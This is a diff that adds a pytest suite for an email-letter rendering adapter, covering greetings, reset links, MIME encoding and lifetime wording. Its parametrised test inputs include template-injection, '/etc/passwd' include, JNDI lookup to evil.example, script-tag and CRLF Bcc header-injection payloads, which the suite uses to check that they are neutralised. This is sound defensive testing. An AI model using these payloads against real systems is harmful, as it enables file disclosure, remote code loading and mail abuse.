@@ -1,0 +1,133 @@
+"""Letters: whole for every kind, and what users chose themselves is text in them, if it is in them at all."""
+
+import re
+from datetime import timedelta
+from email import message_from_bytes
+from email.policy import default
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from adapters.mail.letters import SUBJECTS, TEMPLATES, JinjaLetters, greeted, in_words
+from adapters.mail.mime import mime_of
+from application.operations.mail_delivery import LINKS
+from application.ports.mail_delivery import Letter, Message
+from application.ports.outbox import MailKind
+from tests.builders import NOW, new_id
+from tests.mails import link_in
+
+LINK = "https://app.example/reset?lang=en&x=1#email=ada%40example.com&token=secret"
+
+
+def write(kind: MailKind = "reset", **more: Any) -> Message:
+    link = LINK if kind in LINKS else None
+    values = {"to": "ada@example.com", "name": "Ada Byron", "address": "192.0.2.1", "at": NOW, "link": link}
+    letter = Letter(id=new_id(), kind=kind, **{**values, "lifetime": timedelta(hours=1), **more})
+    return JinjaLetters("Acme & Sons").write(letter)
+
+
+class Markup(HTMLParser):
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.links: list[str | None] = []
+        self.words = ""
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.links += [value for name, value in attrs if name in ("href", "src")]
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+
+@pytest.mark.parametrize("kind", SUBJECTS)
+def test_every_kind_is_written_in_both_forms(kind: MailKind) -> None:
+    message = write(kind)
+    markup = Markup(message.html)
+    assert (message.to, message.subject) == ("ada@example.com", f"Acme & Sons: {SUBJECTS[kind]}")
+    for form in (message.text, markup.words):
+        assert "Hello Ada Byron," in form
+        assert "Acme & Sons" in form
+        assert "None" not in form
+    assert markup.links == ([LINK] if kind in LINKS else [])
+    if kind in LINKS:
+        assert link_in(message) == LINK
+    assert all(len(line) <= 100 for line in message.text.splitlines() if "#" not in line)
+
+
+def test_each_template_belongs_to_a_kind() -> None:
+    assert {file.stem for file in TEMPLATES.iterdir()} == {*SUBJECTS, "letter"}
+
+
+@pytest.mark.parametrize("name", ["Ada Byron", "Ana-María O’Brien", "Dr. Ada K. Byron", "李小龙", "Мария", "D'Arcy"])
+def test_a_name_is_greeted(name: str) -> None:
+    assert greeted(name) == name
+    assert f"Hello {name}," in write(name=name).text
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "",
+        "   ",
+        "{{ 7 * 7 }}",
+        "{% include '/etc/passwd' %}",
+        "${jndi:ldap://evil.example/x}",
+        "<script>alert(1)</script>",
+        "evil.example",
+        "Win a prize at evil.example",
+        "http://evil.example",
+        "Ada\r\nBcc: eve@example.org",
+        "Ada, your account is blocked: call 555",
+        "x" * 61,
+        "Ada\u202egnp.exe",
+        "ａ．ｂ",
+    ],
+)
+def test_a_name_that_is_none_is_left_out(name: str) -> None:
+    message = write(name=name)
+    assert "Hello,\n" in message.text
+    assert "Hello," in Markup(message.html).words
+
+
+@given(name=st.text(max_size=80), address=st.text(max_size=40))
+def test_no_name_or_address_becomes_markup_or_template(name: str, address: str) -> None:
+    plain, message = write("password-changed"), write("password-changed", name=name, address=address)
+    assert Markup(message.html).tags == Markup(plain.html).tags
+    assert Markup(message.html).links == []
+    assert message.subject == plain.subject
+
+
+def test_what_looks_like_a_template_in_a_value_stays_as_it_is() -> None:
+    """Also where it gets past the greeting: the service's own name, an address."""
+    letter = Letter(
+        id=new_id(), kind="password-changed", to="{{7*7}}@example.com", name="", address="{{ 7 * 7 }}", at=NOW
+    )
+    message = JinjaLetters("{{ 6 * 7 }}\r\nBcc: eve@example.org").write(letter)
+    assert "{{ 7 * 7 }}" in message.text
+    assert "49" not in message.text + message.html
+    assert message.subject.startswith("{{ 6 * 7 }} Bcc: eve@example.org: ")
+    mime = message_from_bytes(mime_of(message, "no-reply@example.com").as_bytes(), policy=default)
+    assert mime["Bcc"] is None
+    assert [one.addr_spec for one in mime["To"].addresses] == ["{{7*7}}@example.com"]
+
+
+def test_a_link_in_a_mail_can_be_copied_whole() -> None:
+    """Quoted-printable breaks its lines; who reads the mail puts them together again."""
+    message = write()
+    mime = message_from_bytes(mime_of(message, "no-reply@example.com").as_bytes(), policy=default)
+    body = mime.get_body(("plain",))
+    assert body is not None
+    assert re.search(re.escape(LINK) + "\r?\n", body.get_content())
+
+
+@pytest.mark.parametrize(
+    ("lifetime", "words"), [(60, "60 minutes"), (90, "90 minutes"), (1440, "24 hours"), (7 * 1440, "7 days")]
+)
+def test_lifetimes_in_words(lifetime: int, words: str) -> None:
+    assert in_words(timedelta(minutes=lifetime)) == words
